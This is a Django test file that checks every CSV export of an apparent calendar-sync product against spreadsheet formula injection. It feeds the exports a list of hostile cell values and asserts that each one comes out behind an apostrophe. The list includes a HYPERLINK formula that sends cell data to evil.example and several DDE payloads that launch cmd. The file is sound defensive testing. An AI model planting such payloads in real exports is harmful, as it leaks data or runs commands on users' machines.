"""CSV formula injection (OWASP): every CSV the product writes shows hostile text as text.

* Each CSV download (every URL pattern whose route ends in ``.csv``) is listed in ``DOWNLOADS``
  with a way to fill it with hostile text; a test fails when a new one is not listed.
* In every download, no cell starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, and
  the hostile texts are all there, each behind one apostrophe.
* The employees' export still imports back unchanged (the importer removes the apostrophe).
* No module writes CSV except through :func:`sfacal.core.spreadsheet.csv_writer` (the source tree is
  read for ``csv.writer`` / ``csv.DictWriter``).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from sfacal.core.spreadsheet import FORMULA_START
from sfacal.directory.employees.models import Employee
from sfacal.engine.models import LogResult, SyncLogEntry, Trigger
from sfacal.sources.csv import preview_employees

pytestmark = pytest.mark.django_db

SRC = Path(__file__).resolve().parents[2] / "src" / "sfacal"

# What an SFA (or a person) could put in a title, a name, a calendar name or an ID.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


def _csv_patterns(patterns: list[URLPattern | URLResolver], prefix: str = "") -> Iterator[str]:
    for pattern in patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from _csv_patterns(pattern.url_patterns, route)
        elif route.endswith(".csv") and pattern.name:
            yield pattern.name


def _log_export(client, company, employee) -> bytes:
    for i, text in enumerate(HOSTILE):
        SyncLogEntry.objects.create(
            company=company,
            employee=employee,
            login_id=text[:150],
            mailbox=text[:254],
            calendar_name=text,
            trigger=Trigger.WEBHOOK,
            operation="create",
            result=LogResult.FAILURE,
            error_code="",
            source=text[:64],
            record_id=f"{text}{i}"[:200],
            subject=text,
            message=text,
        )
    response = client.get(reverse("log_export"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content)


def _employee_export(client, company, employee) -> bytes:
    for i, text in enumerate(HOSTILE):
        Employee.objects.create(company=company, login_id=f"e{i}", name=text, calendar_name=text)
    response = client.get(reverse("employee_export"), {"what": "employees", "encoding": "utf-8-sig"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return response.content


def _audit_export(client, company, employee) -> bytes:
    from sfacal.directory.companies.audit import record_event

    for i, text in enumerate(HOSTILE):
        record_event(
            company=company,
            user=None,
            object_type=text[:64],
            object_id=f"{text}{i}"[:64],
            field=text[:100],
            new_value=text,
        )
    response = client.get(reverse("audit_export"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content)


DOWNLOADS: dict[str, Callable[..., bytes]] = {
    "log_export": _log_export,
    "employee_export": _employee_export,
    "audit_export": _audit_export,
}


def test_every_csv_download_is_checked_here():
    assert sorted(_csv_patterns(get_resolver().url_patterns)) == sorted(DOWNLOADS)


@pytest.mark.parametrize("name", sorted(DOWNLOADS))
def test_no_cell_of_any_csv_download_starts_like_a_formula(name, admin_client, company, employee):
    raw = DOWNLOADS[name](admin_client, company, employee)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert len(rows) > len(HOSTILE)
    starts_like_formula = [cell for cell in cells if cell and cell[0] in FORMULA_START]
    assert starts_like_formula == []
    for text in HOSTILE:
        assert "'" + text in cells, text


def test_the_employee_export_still_imports_back_unchanged(admin_client, company, employee):
    _employee_export(admin_client, company, employee)
    for row in Employee.objects.filter(company=company):  # as the screens store them: trimmed
        row.name, row.calendar_name = row.name.strip(), row.calendar_name.strip()
        row.save()
    raw = admin_client.get(reverse("employee_export"), {"what": "employees", "encoding": "utf-8-sig"}).content
    assert raw.decode("utf-8-sig").count("'=") >= 4
    report = preview_employees(raw, company)
    assert report.ok and report.counts == {"unchanged": len(HOSTILE) + 1}, report.changes


# `csv.writer(`, `csv.DictWriter(`, or either imported by name from the csv module.
_WRITERS = re.compile(
    r"\bcsv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b"
)


def test_no_module_writes_csv_but_through_the_spreadsheet_writer():
    helper = SRC / "core" / "spreadsheet.py"
    offenders = [
        f"{path.relative_to(SRC)}:{text[: m.start()].count(chr(10)) + 1}"
        for path in sorted(SRC.rglob("*.py"))
        if path != helper
        for text in [path.read_text(encoding="utf-8")]
        for m in _WRITERS.finditer(text)
    ]
    assert offenders == []
    assert _WRITERS.search(helper.read_text(encoding="utf-8"))  # the pattern still finds the real one
